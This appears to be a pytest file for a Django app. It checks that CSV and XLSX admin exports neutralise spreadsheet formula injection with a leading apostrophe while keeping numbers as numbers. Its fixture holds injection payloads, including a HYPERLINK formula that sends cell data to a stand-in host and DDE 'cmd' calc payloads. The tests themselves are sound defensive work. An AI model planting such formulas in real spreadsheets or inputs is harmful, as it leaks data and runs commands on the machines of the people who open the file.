"""Exports never hand a spreadsheet a formula: a text cell starting with =, +, -, @, a tab or a
carriage return is written with a leading apostrophe (OWASP's advice), in CSV and XLSX alike,
for every resource the admin exports. Numbers stay numbers; importing the file back gives the
original text."""

import csv
import io
from decimal import Decimal

import pytest
from django.contrib import admin
from import_export.admin import ImportExportMixin
from import_export.formats.base_formats import CSV, XLSX
from openpyxl import load_workbook

from benefits.models import Benefit
from benefits.resources import BenefitResource
from bookshelf.shelf.resources import ShelfCellResource
from config.spreadsheets import FormulaSafeResource, formula_escape
from customers.models import Tier
from tests.factories import make_benefit

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "name_zh_hans": "+1+cmd|' /C calc'!A0",
    "provider_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description_en": "-2+3+cmd|' /C calc'!A0",
    "how_to_use_en": "\t=1+1",
    "unit_en": "\r=1+1",
}


@pytest.fixture
def hostile_benefit():
    benefit = make_benefit(cells={Tier.GOLD: 1}, tags=["=evil", "senior"])
    Benefit.objects.filter(pk=benefit.pk).update(**HOSTILE)
    return Benefit.objects.get(pk=benefit.pk)


def _dangerous(value):
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_csv_export_escapes_every_formula_cell(hostile_benefit):
    dataset = BenefitResource().export()
    text = CSV().export_data(dataset)
    rows = list(csv.reader(io.StringIO(text)))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    for column, value in HOSTILE.items():
        assert cells[column] == "'" + value
    assert cells["tags"] == "'=evil, senior"
    assert not any(_dangerous(c) for r in rows for c in r)


def test_xlsx_export_has_no_formula_and_keeps_numbers(hostile_benefit):
    Benefit.objects.filter(pk=hostile_benefit.pk).update(price="99.50")
    dataset = BenefitResource().export()
    data = XLSX().export_data(dataset)
    sheet = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in sheet[1]]
    values = dict(zip(header, [c for c in sheet[2]], strict=True))
    for column in HOSTILE:
        assert values[column].data_type != "f"
        assert values[column].value.startswith("'")
    assert values["price"].value in ("99.50", 99.5)


def test_a_negative_number_in_a_numeric_column_stays_a_number():
    # (No stored price is negative: a check constraint says so; an unsaved one shows the rule.)
    resource = BenefitResource()
    cell = resource.export_field(resource.fields["price"], Benefit(price=Decimal("-5.00")))
    assert cell in ("-5.00", Decimal("-5.00"))
    assert formula_escape(-5) == -5
    assert formula_escape("-5") == "'-5"  # as text it would be evaluated


def test_an_escaped_export_imports_back_to_the_original_text(hostile_benefit):
    text = CSV().export_data(BenefitResource().export())
    dataset = CSV().create_dataset(text)
    result = BenefitResource().import_data(dataset, dry_run=False, raise_errors=True)
    assert not result.has_validation_errors()
    again = Benefit.objects.get(pk=hostile_benefit.pk)
    for column, value in HOSTILE.items():
        assert getattr(again, column) == value
    assert again.tags == ["=evil", "senior"]


def test_every_admin_export_resource_is_formula_safe():
    checked = 0
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ImportExportMixin):
            for resource_class in model_admin.get_resource_classes(request=None):
                assert issubclass(resource_class, FormulaSafeResource), resource_class
                checked += 1
    assert checked >= 2
    assert issubclass(ShelfCellResource, FormulaSafeResource)
